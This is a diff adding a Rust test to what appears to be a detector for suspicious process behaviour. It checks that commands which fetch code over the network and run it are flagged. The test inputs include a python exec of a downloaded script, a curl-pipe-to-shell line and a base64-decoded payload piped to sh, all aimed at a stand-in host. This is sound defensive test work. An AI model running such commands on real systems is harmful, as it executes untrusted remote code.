@@ -78,6 +78,32 @@ fn a_shell_escape_the_lineage_baseline_knows_is_not_reported() {
 }
 
 #[test]
+fn fetched_code_run_in_memory() {
+    let mut s = Sim::new();
+    s.run(&[
+        "python3",
+        "-c",
+        "import urllib.request as u; exec(u.urlopen('http://203.0.113.7:8080/s.py').read())",
+    ]);
+    s.expect(
+        "decode_and_run",
+        &["ran code fetched over the network without writing it to disk"],
+        Level::High,
+    );
+    let mut s = Sim::new();
+    s.run(&["sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"]);
+    s.expect("decode_and_run", &["fetched over the network"], Level::High);
+    // Fetching and printing is not running.
+    let mut s = Sim::new();
+    s.run(&[
+        "python3",
+        "-c",
+        "import urllib.request as u; print(u.urlopen('http://example.org').status)",
+    ]);
+    s.none("decode_and_run");
+}
+
+#[test]
 fn decoded_payloads_run() {
     let mut s = Sim::new();
     s.run(&["bash", "-c", "echo aWQK | base64 -d | sh"]);
